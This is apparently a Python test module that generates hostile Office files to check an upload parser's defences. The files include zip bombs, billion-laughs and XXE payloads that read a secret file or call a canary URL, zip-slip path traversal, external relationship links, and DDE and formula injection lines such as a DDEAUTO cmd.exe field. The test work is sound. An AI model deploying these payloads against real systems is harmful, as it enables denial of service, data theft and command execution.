"""Hostile and broken office files: bombs in the archive and in its XML, macros, links to elsewhere, paths that climb."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial

from hostile import DAMAGED, HARMLESS, REFUSED, UNKNOWN, Hostile, Snare, plain, plainly

from persea.errors import TooLarge, UnreadableUpload

_BOMB = (UnreadableUpload, TooLarge)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_DOCUMENT, _SHEET, _STRINGS = "word/document.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def archives() -> Iterator[Hostile]:
    for name, make, expected in _made():
        ending = name.split()[0]
        yield Hostile(name, plainly(make), f"a.{ending}", expected, is_quick=name in _QUICK)
    for ending in ("docx", "xlsx"):
        for kind in ("secret", "address", "parameter"):
            make = partial(_entity, ending, kind)
            quick = ending == "docx" or kind == "secret"
            yield Hostile(f"{ending} xxe {kind}", make, f"a.{ending}", canary=True, is_quick=quick)
        yield Hostile(f"{ending} paths", partial(_paths, ending), f"a.{ending}", canary=True, is_quick=True)
        yield Hostile(f"{ending} links", partial(_links, ending), f"a.{ending}", canary=True, is_quick=True)
    yield Hostile("docx fields", _fields, "a.docx", canary=True)
    yield Hostile("xlsx formulas", _formulas, "a.xlsx", canary=True, is_quick=True)


_QUICK = {
    *("docx bomb", "xlsx bomb", "docx laughs", "xlsx laughs", "docx overlap", "docx span", "xlsx far cell"),
    *("xlsx merged", "docm macros", "docx locked", "docx nested zip", "zip of nothing", "xlsx dates"),
}


def _made() -> list[tuple[str, Callable[[], bytes], tuple[type, ...]]]:
    return [
        # archives
        ("docx bomb", lambda: _with("docx", {_DOCUMENT: _long(_docx_body(""), 120)}), _BOMB),
        ("docx bomb of tags", lambda: _with("docx", {_DOCUMENT: _many_paragraphs(150)}), _BOMB),
        ("docx bomb aside", lambda: _with("docx", {"word/media/image1.png": bytes(200 << 20)}), HARMLESS),
        ("xlsx bomb", lambda: _with("xlsx", {_SHEET: _long(_sheet(""), 120)}), _BOMB),
        ("xlsx bomb of strings", lambda: _with("xlsx", {_STRINGS: _long(f"<sst {_S}></sst>", 120)}), _BOMB),
        ("docx nested zip", lambda: _with("docx", {"word/embeddings/a.zip": _nested_zip()}), HARMLESS),
        ("docx overlap", lambda: _overlapping(20_000), REFUSED),
        ("docx entries", lambda: _with("docx", {f"word/media/{n}": b"" for n in range(60_000)}), HARMLESS),
        ("docx twice", _twice, HARMLESS),
        ("docx encrypted", lambda: _flagged(6, 1), DAMAGED),
        ("docx unknown method", lambda: _flagged(8, 99), DAMAGED),
        ("docx bad sum", lambda: _flagged(14, 0x1234), DAMAGED),
        ("docx size lies", lambda: _flagged(22, 10), HARMLESS),
        ("docx zip64 lies", lambda: plain("docx")[:-22] + b"PK\6\6" + b"\xff" * 52 + b"PK\6\7" + b"\xff" * 16 + plain("docx")[-22:], DAMAGED),
        ("docx comment", lambda: plain("docx")[:-2] + b"\xff\xff" + b"PK\5\6" * 16_383, HARMLESS),
        ("docx prefixed", lambda: b"PK\3\4" + bytes(60_000) + plain("docx"), HARMLESS),
        ("docx empty", lambda: _zip({}) + b"", REFUSED),
        ("zip of nothing", lambda: _zip({"a.txt": b"hello"}), REFUSED),
        ("jar", lambda: _zip({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}), REFUSED),
        ("ods", lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}), REFUSED),
        ("docx is xlsx", lambda: _with("docx", {"[Content_Types].xml": _part("xlsx", "[Content_Types].xml")}), HARMLESS),
        ("docx no parts", lambda: _zip({"[Content_Types].xml": _part("docx", "[Content_Types].xml")}), REFUSED),
        # XML
        ("docx laughs", lambda: _with("docx", {_DOCUMENT: _laughs("docx")}), HARMLESS),
        ("xlsx laughs", lambda: _with("xlsx", {_SHEET: _laughs("xlsx")}), HARMLESS),
        ("xlsx laughs in strings", lambda: _with("xlsx", {_STRINGS: _laughs("strings")}), HARMLESS),
        ("docx laughs in types", lambda: _with("docx", {"[Content_Types].xml": _laughs("docx")}), HARMLESS),
        ("docx quadratic", lambda: _with("docx", {_DOCUMENT: _quadratic()}), HARMLESS),
        ("docx deep", lambda: _with("docx", {_DOCUMENT: _docx_body(_deep(200_000))}), HARMLESS),
        ("docx deep tables", lambda: _with("docx", {_DOCUMENT: _docx_body(_deep_tables(60))}), HARMLESS),
        ("docx attributes", lambda: _with("docx", {_DOCUMENT: _docx_body(f'<w:p w:rsid="{"a" * 30_000_000}"/>')}), HARMLESS),
        ("docx not xml", lambda: _with("docx", {_DOCUMENT: b"\0\1\2" * 500}), DAMAGED),
        ("docx utf-7", lambda: _with("docx", {_DOCUMENT: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-'}), DAMAGED),
        # what the format allows
        ("docx span", lambda: _with("docx", {_DOCUMENT: _docx_body(_span(2_000_000_000))}), HARMLESS),
        ("docx span minus", lambda: _with("docx", {_DOCUMENT: _docx_body(_span(-5))}), HARMLESS),
        ("docx span word", lambda: _with("docx", {_DOCUMENT: _docx_body(_span("many"))}), HARMLESS),
        ("docx wide table", lambda: _with("docx", {_DOCUMENT: _docx_body(_wide_table(20_000))}), HARMLESS),
        ("docx long", lambda: _with("docx", {_DOCUMENT: _docx_body("<w:p><w:r><w:t>word </w:t></w:r></w:p>" * 200_000)}), HARMLESS),
        ("docx escapes", lambda: _with("docx", {_DOCUMENT: _docx_body("<w:p><w:r><w:t>&#x202e;a&#x9b;31m&#x85;</w:t></w:r></w:p>")}), HARMLESS),
        ("xlsx far cell", lambda: _with("xlsx", {_SHEET: _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}), HARMLESS),
        ("xlsx far corners", lambda: _with("xlsx", {_SHEET: _sheet(_corners(3_000))}), HARMLESS),
        ("xlsx beyond", lambda: _with("xlsx", {_SHEET: _sheet('<row r="99999999999"><c r="ZZZZZ99999999999"><v>1</v></c></row>')}), HARMLESS),
        ("xlsx row none", lambda: _with("xlsx", {_SHEET: _sheet('<row r="-1"><c r="A0"><v>1</v></c></row>')}), HARMLESS),
        ("xlsx merged", lambda: _with("xlsx", {_SHEET: _sheet("", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')}), HARMLESS),
        ("xlsx wide claim", lambda: _with("xlsx", {_SHEET: _sheet('<row r="1"><c r="A1"><v>1</v></c></row>', claim="A1:XFD1048576")}), HARMLESS),
        ("xlsx dates", lambda: _with("xlsx", {_SHEET: _sheet(_odd_values())}), HARMLESS),
        ("xlsx string none", lambda: _with("xlsx", {_SHEET: _sheet('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')}), HARMLESS),
        ("xlsx long cell", lambda: _with("xlsx", {_SHEET: _sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{"x" * 30_000_000}</t></is></c></row>')}), HARMLESS),
        ("xlsx sheets", lambda: _with("xlsx", {"xl/workbook.xml": _sheets(20_000)}), HARMLESS),
        ("xlsx styles", lambda: _with("xlsx", {"xl/styles.xml": f"<styleSheet {_S}><cellXfs>{'<xf/>' * 1_000_000}</cellXfs></styleSheet>"}), HARMLESS),
        ("xlsx xlsm", lambda: _with("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(900)}), HARMLESS),
        ("docm macros", _docm, HARMLESS),
        # office files that are none of those
        ("docx locked", lambda: _ole("EncryptedPackage"), REFUSED),
        ("xls old", lambda: _ole("Workbook"), REFUSED),
        ("doc old", lambda: _ole("WordDocument"), REFUSED),
        ("rtf", lambda: rb"{\rtf1{\object\objautlink\objupdate{\*\objclass Word}{\*\objdata 0105000002}}}", UNKNOWN + DAMAGED),
    ]  # fmt: skip


# ---------------------------------------------------------------- archives


def _zip(parts: Mapping[str, bytes | str], *, level: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def _parts(ending: str) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(plain(ending))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _part(ending: str, name: str) -> bytes | str:
    return _parts(ending)[name]


def _with(ending: str, changed: Mapping[str, bytes | str]) -> bytes:
    return _zip(_parts(ending) | changed)


def _long(around: str, mebibytes: int) -> str:
    """Blanks before the end of what is around them."""
    at = around.rindex("</")
    return around[:at] + " " * (mebibytes << 20) + around[at:]


def _many_paragraphs(mebibytes: int) -> str:
    return _docx_body("<w:p/>" * ((mebibytes << 20) // 6))


def _nested_zip() -> bytes:
    inner = _zip({"0": bytes(20 << 20)})
    for level in range(1, 7):
        inner = _zip({f"{level}.{n}.zip": inner for n in range(8)}, level=9)
    return inner


def _overlapping(count: int) -> bytes:
    """One body, which each entry of the directory names as its own."""
    squeeze = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = squeeze.compress(bytes(8 << 20)) + squeeze.flush()
    name = _DOCUMENT.encode()
    sizes = struct.pack("<HHIIIH", 0, 0, zlib.crc32(bytes(8 << 20)), len(body), 8 << 20, len(name))
    local = struct.pack("<4sHHH", b"PK\3\4", 20, 0, 8) + sizes + b"\0\0" + name + body
    entry = struct.pack("<4sHHHH", b"PK\1\2", 20, 20, 0, 8) + sizes + bytes(12) + struct.pack("<I", 0) + name
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + end


def _twice() -> bytes:
    """The second one counts for some, the first for others."""
    out = io.BytesIO(plain("docx"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_DOCUMENT + "x", _docx_body("<w:p><w:r><w:t>other</w:t></w:r></w:p>"))
    return out.getvalue().replace(b"document.xmlx", b"document.xml\0")


def _flagged(at: int, value: int) -> bytes:
    """A field of each local head, and the same one of the directory, set to `value`."""
    out = bytearray(plain("docx"))
    size = 4 if at >= 14 else 2
    for magic, place in ((b"PK\3\4", at), (b"PK\1\2", at + 2)):
        found = out.find(magic)
        while found >= 0:
            out[found + place : found + place + size] = value.to_bytes(size, "little")
            found = out.find(magic, found + 4)
    return bytes(out)


def _paths(ending: str, snare: Snare) -> bytes:
    """Entries that would land in `folder` if anybody unpacked them, and one that is a link."""
    parts = _parts(ending)
    climbing = "../" * 12 + str(snare.folder).lstrip("/")
    for name in (f"{snare.folder}/absolute", f"{climbing}/climbed", f"word\\..\\..\\{climbing}/back", "a\0b"):
        parts[name] = b"landed"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        link = zipfile.ZipInfo("word/media/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, str(snare.secret))
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def _ole(stream: str) -> bytes:
    """A compound file (MS-CFB) of which only the head and a directory entry are right."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0\6\0" + bytes(10)
    return head.ljust(512, b"\xff") + stream.encode("utf-16-le").ljust(128, b"\0") + bytes(4_000)


# ---------------------------------------------------------------- XML


def _docx_body(inside: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document {_W}><w:body>{inside}</w:body></w:document>'


def _sheet(rows: str, after: str = "", *, claim: str = "A1", before: str = "") -> str:
    head = f'<?xml version="1.0"?>{before}<worksheet {_S}><dimension ref="{claim}"/>'
    return f"{head}<sheetData>{rows}</sheetData>{after}</worksheet>"


def _inline(text: str) -> str:
    return f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _whole(ending: str, text: str, before: str) -> str:
    if ending == "docx":
        return _docx_body(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>", before)
    if ending == "strings":
        return f'<?xml version="1.0"?>{before}<sst {_S}><si><t>{text}</t></si></sst>'
    return _sheet(_inline(text), before=before)


def _laughs(ending: str) -> str:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _whole(ending, "&l9;", f'<!DOCTYPE a [<!ENTITY l0 "lol">{steps}]>')


def _quadratic() -> str:
    return _whole("docx", "&a;" * 50_000, f'<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>')


def _entity(ending: str, kind: str, snare: Snare) -> bytes:
    before = {
        "secret": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{snare.secret}">]>',
        "address": f'<!DOCTYPE a SYSTEM "{snare.url}{ending}.dtd" [<!ENTITY x SYSTEM "{snare.url}{ending}">]>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{snare.url}{ending}.ent"> %p; <!ENTITY x "x">]>',
    }[kind]
    return _with(ending, {_DOCUMENT if ending == "docx" else _SHEET: _whole(ending, "&x;", before)})


def _deep(depth: int) -> str:
    return "<w:sdt><w:sdtContent>" * depth + "<w:p/>" + "</w:sdtContent></w:sdt>" * depth


def _deep_tables(depth: int) -> str:
    """Each cell holds the next table, and is there twice."""
    inside = "<w:p><w:r><w:t>end</w:t></w:r></w:p>"
    for _ in range(depth):
        inside = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr>{inside}</w:tc></w:tr></w:tbl>'
    return inside


def _span(columns: int | str) -> str:
    cell = (
        f'<w:tc><w:tcPr><w:gridSpan w:val="{columns}"/></w:tcPr><w:p><w:r><w:t>wide</w:t></w:r></w:p></w:tc>'
    )
    return f'<w:tbl><w:tr><w:trPr><w:gridAfter w:val="{columns}"/></w:trPr>{cell}</w:tr><w:tr>{cell}</w:tr></w:tbl>'


def _wide_table(columns: int) -> str:
    row = f"<w:tr>{'<w:tc><w:p/></w:tc>' * columns}</w:tr>"
    return f"<w:tbl>{row * 5}</w:tbl>"


def _corners(rows: int) -> str:
    return "".join(
        f'<row r="{n}"><c r="A{n}"><v>1</v></c><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, rows)
    )


def _odd_values() -> str:
    values = (
        "1e308",
        "-1e308",
        "NaN",
        "INF",
        "1e999999",
        "9" * 5_000,
        "",
        "0x10",
        "1_000",
        "٣",
        "-0",
        "1e-400",
    )
    kinds = ("n", "b", "e", "d", "str", "s", "odd")
    cells = [(kind, style, value) for kind in kinds for style in (0, 1, 99_999) for value in values]
    return "".join(
        f'<row r="{n}"><c r="A{n}" t="{kind}" s="{style}"><v>{value}</v></c></row>'
        for n, (kind, style, value) in enumerate(cells, 1)
    )


def _sheets(count: int) -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    each = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, count))
    return f'<workbook {_S} xmlns:r="{office}"><sheets>{each}</sheets></workbook>'


# ---------------------------------------------------------------- what reaches out of the file


_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _links(ending: str, snare: Snare) -> bytes:
    """Relations of every kind that lead elsewhere: a template, a picture, another workbook, an object."""
    kinds = (
        "attachedTemplate",
        "image",
        "oleObject",
        "externalLinkPath",
        "hyperlink",
        "aFChunk",
        "frame",
        "sharedStrings",
    )
    places = (f"{snare.url}{{kind}}", f"file://{snare.secret}", f"../../../../../../..{snare.secret}")
    related = "".join(
        f'<Relationship Id="x{kind}{n}" Type="{_OFFICE}/{kind}" TargetMode="{mode}" Target="{place.format(kind=kind)}"/>'
        for kind in kinds
        for n, (place, mode) in enumerate(zip(places, ("External", "External", "External"), strict=True))
    )
    name = "word/_rels/document.xml.rels" if ending == "docx" else "xl/_rels/workbook.xml.rels"
    kept = str(_part(ending, name), "utf-8").replace("</Relationships>", f"{related}</Relationships>")
    changed: dict[str, bytes | str] = {name: kept}
    if ending == "docx":
        changed["word/_rels/settings.xml.rels"] = (
            f'<Relationships xmlns="{_RELATIONS}">{related}</Relationships>'
        )
    return _with(ending, changed)


def _fields(snare: Snare) -> bytes:
    asked = (
        f'INCLUDETEXT "{snare.secret}"',
        f'INCLUDEPICTURE "{snare.url}field.png"',
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        f'IMPORT "{snare.secret}"',
        "= 99999999 ^ 99999999",
    )
    runs = "".join(
        f"<w:p><w:fldSimple w:instr='{one}'><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>" for one in asked
    )
    return _with("docx", {_DOCUMENT: _docx_body(runs)})


def _formulas(snare: Snare) -> bytes:
    asked = (
        f'WEBSERVICE("{snare.url}webservice")',
        "cmd|'/c calc'!A0",
        f'HYPERLINK("{snare.url}link","free")',
        f"'file://{snare.secret}'#$Sheet1.A1",
        f'IMPORTXML("{snare.url}xml","//a")',
        "REPT(REPT(\"x\",32767),32767)",
        "A1",
    )  # fmt: skip
    quoted = (one.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;") for one in asked)
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{one}</f></c></row>' for n, one in enumerate(quoted, 1))
    return _with("xlsx", {_SHEET: _sheet(rows)})


def _docm() -> bytes:
    types = str(_part("docx", "[Content_Types].xml"), "utf-8").replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _with("docx", {"[Content_Types].xml": types, "word/vbaProject.bin": _ole("VBA")})
